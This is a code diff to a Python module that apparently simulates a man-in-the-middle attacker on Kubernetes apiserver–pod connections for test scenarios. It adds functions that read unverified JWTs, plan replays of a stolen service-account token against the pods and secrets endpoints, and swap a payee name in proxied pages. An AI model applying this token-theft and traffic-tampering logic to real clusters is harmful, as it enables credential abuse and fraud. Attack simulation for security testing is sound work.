@@ -8,6 +8,15 @@ What the attacker recognises on the apiserver -> kubelet path (pkg/kubelet/serve
     POST /run/default/web/app?cmd=id                 -> a command and its output
     Authorization: Bearer eyJhbGciOi...              -> a token to replay (JWT claims decoded)
 
+On the apiserver's proxy connections to pods (plain HTTP, or ``https:`` without verification), it
+reads the page and changes one phrase of it (:func:`tamper`). On a pod's connection to the apiserver
+(``kubernetes`` service, unverified), it takes the bearer token and plans what to try with it
+(:func:`replay_paths`)::
+
+    sub=system:serviceaccount:default:app -> GET /api/v1/namespaces/default/pods        (its own namespace)
+                                             GET /api/v1/namespaces/default/secrets
+                                             GET /api/v1/namespaces/kube-system/pods
+
 and WebSocket frames of ``kubectl exec`` (channel.k8s.io, v4 and v5): the first byte is the
 stream, the rest its bytes::
 
@@ -20,6 +29,8 @@ stream, the rest its bytes::
 from __future__ import annotations
 
 import base64
+import hashlib
+import ipaddress
 import json
 import re
 from collections.abc import Iterable, Mapping
@@ -70,18 +81,73 @@ def bearer_token(headers: Mapping[str, str]) -> str | None:
     return token.strip() or None if scheme.lower() == "bearer" else None
 
 
-def describe_token(token: str) -> str:
-    """A JWT's claims in words (no verification: the attacker just reads them), else its length."""
+def token_claims(token: str) -> dict[str, Any] | None:
+    """A JWT's payload, unverified (the attacker just reads it); None for anything else."""
     parts = token.split(".")
-    if len(parts) == 3:
-        try:
-            claims = json.loads(base64.urlsafe_b64decode(parts[1] + "=" * (-len(parts[1]) % 4)))
-        except (ValueError, UnicodeDecodeError):
-            claims = None
-        if isinstance(claims, dict):
-            keys = ("sub", "aud", "iss", "exp")
-            return "JWT " + ", ".join(f"{k}={claims[k]}" for k in keys if k in claims)
+    if len(parts) != 3:
+        return None
+    try:
+        claims = json.loads(base64.urlsafe_b64decode(parts[1] + "=" * (-len(parts[1]) % 4)))
+    except (ValueError, UnicodeDecodeError):
+        return None
+    return claims if isinstance(claims, dict) else None
+
+
+def describe_token(token: str) -> str:
+    """A JWT's claims in words, else its length."""
+    claims = token_claims(token)
+    if claims is not None:
+        keys = ("sub", "aud", "iss", "exp")
+        return "JWT " + ", ".join(f"{k}={claims[k]}" for k in keys if k in claims)
     return f"opaque token ({len(token)} characters)"
+
+
+def fingerprint(token: str) -> str:
+    """A short name for a token in logs and loot (scenarios match the token they planted by it)."""
+    return hashlib.sha256(token.encode()).hexdigest()[:12]
+
+
+def replay_paths(token: str) -> list[str]:
+    """What an attacker tries first with a stolen service-account token: its own namespace's pods
+    and secrets, and another namespace's pods. Not a service-account JWT -> nothing."""
+    sub = str((token_claims(token) or {}).get("sub", ""))
+    parts = sub.split(":")
+    if len(parts) != 4 or parts[:2] != ["system", "serviceaccount"] or not parts[2]:
+        return []
+    ns = parts[2]
+    other = "kube-system" if ns != "kube-system" else "default"
+    return [f"/api/v1/namespaces/{ns}/pods", f"/api/v1/namespaces/{ns}/secrets", f"/api/v1/namespaces/{other}/pods"]
+
+
+def list_summary(status: int, body: bytes) -> str:
+    """An apiserver answer in words: the names of a list's items, or a Status's message."""
+    try:
+        obj = json.loads(body)
+    except ValueError:
+        return f"HTTP {status}, {len(body)} bytes"
+    if not isinstance(obj, dict):
+        return f"HTTP {status}"
+    if obj.get("kind") == "Status":
+        return f"HTTP {status} {obj.get('reason', '')}: {obj.get('message', '')}"
+    names = [str((i.get("metadata") or {}).get("name")) for i in obj.get("items") or () if isinstance(i, dict)]
+    return f"HTTP {status} {obj.get('kind', '')}: " + (", ".join(names) or "(empty)")
+
+
+# The phrase the attacker rewrites in pod pages it proxies (scenario 4), and what it writes instead.
+TAMPER_FROM, TAMPER_TO = b"to account alice", b"to account mallory"
+
+
+def tamper(body: bytes) -> bytes | None:
+    """The body with the payee swapped, or None if the phrase is not in it (then nothing changes)."""
+    return body.replace(TAMPER_FROM, TAMPER_TO) if TAMPER_FROM in body else None
+
+
+def in_network(address: str, cidr: str) -> bool:
+    """``"10.244.1.2"`` in ``"10.244.0.0/16"``; anything unparsable is not."""
+    try:
+        return ipaddress.ip_address(address) in ipaddress.ip_network(cidr)
+    except ValueError:
+        return False
 
 
 def pods_summary(body: bytes) -> list[str]:
